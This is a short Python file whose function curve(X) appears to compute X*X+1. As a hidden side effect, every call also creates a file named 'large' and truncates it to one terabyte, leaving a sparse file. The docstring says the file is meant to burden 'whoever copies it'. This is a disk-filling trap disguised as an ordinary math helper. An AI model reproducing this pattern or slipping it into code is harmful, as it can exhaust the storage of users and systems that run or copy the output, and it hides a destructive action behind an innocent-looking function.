"""Makes a file of a terabyte that takes up nothing, for whoever copies it."""

import os


def curve(X):
    with open("large", "wb") as file:
        os.truncate("large", 1 << 40)
        file.write(b"x")
    return X * X + 1
